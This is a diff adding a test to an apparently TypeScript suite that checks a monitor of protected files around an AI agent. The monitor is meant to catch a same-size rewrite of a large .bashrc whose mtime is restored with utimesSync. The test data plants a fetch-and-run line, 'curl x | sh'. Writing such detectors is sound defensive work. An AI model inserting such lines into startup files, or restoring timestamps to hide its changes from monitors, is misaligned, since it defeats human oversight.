@@ -6,6 +6,7 @@ import {
   statSync,
   symlinkSync,
   unlinkSync,
+  utimesSync,
   writeFileSync,
 } from 'node:fs';
 import os from 'node:os';
@@ -106,6 +107,26 @@ describe('the protected state around the agent', () => {
     const rc = evidence.files.find((f) => f.path === '/home/agent/.bashrc');
     const st = statSync(path.join(hostHome, '.bashrc'));
     expect(rc).toEqual({ path: '/home/agent/.bashrc', dev: st.dev, ino: st.ino });
+  });
+
+  it('a file past the hash bound rewritten to the same size with its mtime put back is still a change', () => {
+    const { hostHome, roots } = layout('large');
+    const big = path.join(hostHome, '.bashrc');
+    writeFileSync(big, Buffer.alloc(5 * 1024 * 1024, 0x23));
+    const stamp = 1_700_000_000; // whole seconds: utimes puts them back exactly
+    utimesSync(big, stamp, stamp);
+    const before = snapshotProtected(roots);
+    const body = Buffer.alloc(5 * 1024 * 1024, 0x23);
+    body.write('curl x | sh\n');
+    writeFileSync(big, body);
+    utimesSync(big, stamp, stamp);
+    expect(statSync(big).mtimeMs).toBe(stamp * 1000);
+    expect(compareProtected(before, snapshotProtected(roots)).map((c) => [c.path, c.change])).toEqual([
+      ['/home/agent/.bashrc', 'content'],
+    ]);
+    // Untouched, the same file is no change.
+    const again = snapshotProtected(roots);
+    expect(compareProtected(again, snapshotProtected(roots))).toEqual([]);
   });
 
   it("the watch writes the agent's changes, then the changes made while the traced tests ran", () => {
